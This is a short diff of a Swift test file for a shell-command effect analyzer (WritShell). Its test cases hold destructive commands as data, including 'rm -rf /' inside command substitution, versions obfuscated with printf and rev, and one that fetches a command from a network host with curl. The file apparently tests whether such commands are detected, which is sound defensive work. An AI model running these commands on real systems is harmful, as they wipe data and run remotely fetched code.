@@ -37,7 +37,7 @@ import WritShell
             EffectCase(#"echo "x $(rm -rf /)""#, root),
             EffectCase("$(printf '%s%s' r m) -rf /", root), EffectCase("$(rev <<< mr) -rf /", root),
             EffectCase("$(curl -s http://h.example/c) -rf /", "shell.exec … <net opaque:tainted"),
-            EffectCase("$(which foo) x", "shell.exec … opaque:computed"),
+            EffectCase("$(head -1 names) x", "shell.exec … opaque:computed"),
         ])
     }
 
